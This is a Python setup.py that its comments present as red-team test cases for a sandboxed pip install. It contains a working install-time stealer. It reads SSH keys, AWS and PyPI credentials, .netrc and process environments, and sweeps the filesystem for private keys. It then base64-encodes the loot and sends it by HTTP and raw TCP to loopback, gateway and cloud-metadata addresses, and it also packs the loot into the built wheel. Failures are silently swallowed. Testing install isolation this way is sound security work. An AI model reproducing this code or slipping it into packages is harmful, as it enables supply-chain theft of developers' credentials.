# RT-05 and RT-33: a setup.py stealer. Its top level runs when pip prepares
# metadata (the fetch phase) and again when it builds the wheel (the build
# phase). Readable payload, no downloads: the harness writes target.json
# (the loopback listener's port) before packing. Errors are swallowed, as
# real stealers do, so the install itself succeeds.
import base64
import json
import os
import socket
import urllib.request

from setuptools import setup

here = os.path.dirname(os.path.abspath(__file__))
target = json.load(open(os.path.join(here, "target.json")))
home = os.path.expanduser("~")
probe = {"env": sorted(os.environ), "files": {}, "sends": [], "sweep": []}
loot = []


def read(p):
    try:
        s = open(p, errors="replace").read()
        probe["files"][p] = "read %d bytes" % len(s)
        loot.append(p + ":\n" + s)
    except OSError as e:
        probe["files"][p] = e.strerror or str(e)


for p in ("~/.pypirc", "~/.aws/credentials", "~/.netrc", "~/.ssh/id_rsa", "~/.config/pip/pip.conf",
          "/proc/1/environ", "/run/safe-install/pip.conf"):
    read(os.path.expanduser(p))


def sweep(d, depth):
    if depth > 8 or d.startswith(("/proc", "/sys", "/dev")):
        return
    try:
        entries = list(os.scandir(d))
    except OSError:
        return
    for e in entries:
        try:
            if e.is_dir(follow_symlinks=False):
                sweep(e.path, depth + 1)
            elif e.is_file(follow_symlinks=False) and e.stat().st_size < 1 << 20:
                s = open(e.path, errors="replace").read()
                if "SICANARY" in s or "PRIVATE KEY" in s or "AKIA" in s:
                    probe["sweep"].append(e.path)
                    loot.append(e.path + ":\n" + s)
        except OSError:
            pass


for root in ("/", home):
    sweep(root, 0)
loot.append("ENV:\n" + json.dumps(dict(os.environ)))
raw = "\n".join(loot)
b64 = base64.b64encode(raw.encode()).decode()


def attempt(what, fn):
    try:
        fn()
        probe["sends"].append(what + ": sent")
    except Exception as e:  # noqa: BLE001 - a stealer ignores failures
        probe["sends"].append("%s: %s" % (what, e))


def post(url):
    urllib.request.urlopen(urllib.request.Request(url, data=b64.encode(), method="POST"), timeout=3)


def raw_tcp(host):
    with socket.create_connection((host, target["port"]), timeout=3) as s:
        s.sendall(b"POST /exfil HTTP/1.0\r\nContent-Length: %d\r\n\r\n%s" % (len(b64), b64.encode()))


for host in ("127.0.0.1", "10.0.2.2", "169.254.169.254"):
    attempt("http " + host, lambda h=host: post("http://%s:%d/exfil" % (h, target["port"])))
    attempt("tcp " + host, lambda h=host: raw_tcp(h))
# Through whatever proxy the environment names (the fetch phase's relay).
for var in ("HTTP_PROXY", "http_proxy", "HTTPS_PROXY", "https_proxy", "PIP_PROXY"):
    if os.environ.get(var):
        attempt("proxy " + var, lambda: post("http://127.0.0.1:%d/exfil" % target["port"]))

# Stash now, send later: the loot travels inside the built wheel.
os.makedirs(os.path.join(here, "pip_stealer"), exist_ok=True)
with open(os.path.join(here, "pip_stealer", "loot.txt"), "w") as f:
    f.write(raw + "\n" + b64 + "\n")
with open(os.path.join(here, "pip_stealer", "probe.json"), "w") as f:
    json.dump(probe, f, indent=1)

setup(name="pip-stealer", version="1.0", packages=["pip_stealer"], package_data={"pip_stealer": ["*.txt", "*.json"]})
